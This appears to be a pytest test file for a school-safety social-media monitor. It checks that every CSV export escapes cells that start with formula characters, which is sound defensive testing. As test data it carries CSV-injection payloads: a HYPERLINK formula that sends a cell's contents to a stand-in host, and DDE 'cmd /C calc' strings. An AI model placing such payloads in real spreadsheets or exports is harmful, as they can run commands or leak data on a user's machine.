"""Issue 13 item 3: no CSV tagwatch writes starts a cell with = + - @ (or tab / CR), whatever
outsiders typed: post text, imported hashtags, a school's URL and description, a report
reference. Each output is produced the way its user produces it; the warehouse keeps
the original text."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

import reportkit
from casekit import seed
from common.csvout import neutralise
from review import cases as cs
from review import schools, users
from tagwatch import cli, pipeline
from fakes.mastodon import MastodonReplayServer, make_status
from warehouse import queries
from warehouse.db import session

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Open")'
HOSTILE_TEXTS = [FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run (a plain negative number is a number, not a formula)."""
    return [c for c in cells(text) if c.startswith(STARTS) and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def assert_no_formula(text: str, expect: str) -> None:
    found = cells(text)
    assert any(c.startswith("'") and c[1:].startswith(STARTS) for c in found), \
        f"the hostile cell is missing: {found[:20]}"
    assert formulas(text) == []
    assert "'" + expect in found or any(("'" + expect) in c for c in found)


@pytest.fixture
def hostile(settings):
    """Flagged posts whose text and hashtags are formulas, their cases, a banned tag seen
    again under a formula spelling, and a school submission of a formula 'URL'."""
    with session(settings.db_path) as con:
        queries.watchlist_add(con, "slapateacher", "banned")
        users.add_user(con, "head.fern", "school", "a long passphrase", "Fernbrook Academy")
    with MastodonReplayServer(max_lifetime=60) as server:
        statuses = [make_status(i + 1, tags=("=slapateacher",), content=f"<p>{t}</p>".replace("&", "&amp;"))
                    for i, t in enumerate(HOSTILE_TEXTS)]
        seed(settings, server, statuses, [0.9] * len(statuses))
    schools.submit(settings, "head.fern", [FORMULA], "@SUM(1+1)", "teacher")
    return settings


def run(capsys, *args) -> str:
    capsys.readouterr()
    assert cli.main(list(args)) == 0
    return capsys.readouterr().out


def test_flagged_csv(hostile, capsys):
    assert_no_formula(run(capsys, "flagged", "--since", "all", "--format", "csv"), FORMULA)


def test_the_daily_flagged_file(hostile):
    written = pipeline.flagged_list(hostile, since="all")
    with open(written["path"], encoding="utf-8", newline="") as fh:
        assert_no_formula(fh.read(), FORMULA)


def test_case_list_csv(hostile, capsys):
    assert_no_formula(run(capsys, "case", "list", "--format", "csv"), FORMULA)
    with session(hostile.db_path) as con:   # the warehouse keeps what was written
        assert FORMULA in {r["text"] for r in cs.list_cases(con)}


def test_resurfacing_csv(hostile, capsys):
    assert_no_formula(run(capsys, "resurfacing", "--since", "all", "--format", "csv"), "=slapateacher")


def test_intake_unfetched_csv(hostile, capsys):
    assert_no_formula(run(capsys, "intake", "unfetched", "--format", "csv"), FORMULA)


def test_score_output(settings, tmp_path, capsys):
    src = tmp_path / "in.csv"
    with src.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["id", "text"], *[[f"=A{i}", t] for i, t in enumerate(HOSTILE_TEXTS)]])
    run(capsys, "score", "--input", str(src), "--output", str(tmp_path / "out.csv"))
    assert_no_formula((tmp_path / "out.csv").read_text(encoding="utf-8"), FORMULA)


@pytest.mark.slow
def test_the_report_csvs(settings, tmp_path, capsys):
    reportkit.build(settings)
    with session(settings.db_path) as con:
        con.execute("UPDATE reports SET reference = ? WHERE reference = 'MST-REF-1001'", [FORMULA])
    out = tmp_path / "report"
    run(capsys, "report", "--period", "7d", "--end", "2026-03-08", "--out", str(out))
    mismatches = (out / "mismatches.csv").read_text(encoding="utf-8")
    assert_no_formula(mismatches, "=")
    for path in out.glob("*.csv"):
        assert formulas(path.read_text(encoding="utf-8")) == [], path


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("\uff1d1+1", "'\uff1d1+1"), ("a=1", "a=1"), ("", ""), (-1.5, -1.5), (3, 3),
])
def test_neutralise(value, written):
    assert neutralise(value) == written


# Files that write CSV without common/csvout.py, and why that is right: they write training
# data, whose text must stay exactly as labelled (an apostrophe would change what the model
# learns), never a file handed to analysts.
RAW_CSV_ALLOWED = {
    "classifiers/corpora.py": "converts a downloaded corpus to the training CSV, byte for byte "
                              "the shared converted copy",
    "classifiers/eval/make_staff_eval.py": "generates the committed staff evaluation set",
    "scripts/make_seed.py": "generates the committed seed set",
    "bench/bench_learning_loop.py": "writes corpus rows as the analyst labels it imports",
}


def test_every_csv_output_goes_through_the_one_safe_writer():
    """grep for csv.writer / DictWriter / pandas to_csv / DuckDB COPY ... (FORMAT CSV) in the
    product code: only common/csvout.py (and the training-data writers above) may use them."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    pattern = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\bCOPY\b[^\n]*\bTO\b[^\n]*csv",
                         re.IGNORECASE)
    found = set()
    for folder in ("classifiers", "collectors", "common", "dags", "radar", "reports", "review",
                   "scripts", "tagwatch", "warehouse", "webapp", "bench"):
        for path in (root / folder).rglob("*.py"):
            if pattern.search(path.read_text(encoding="utf-8")):
                found.add(path.relative_to(root).as_posix())
    assert found - {"common/csvout.py"} == set(RAW_CSV_ALLOWED)
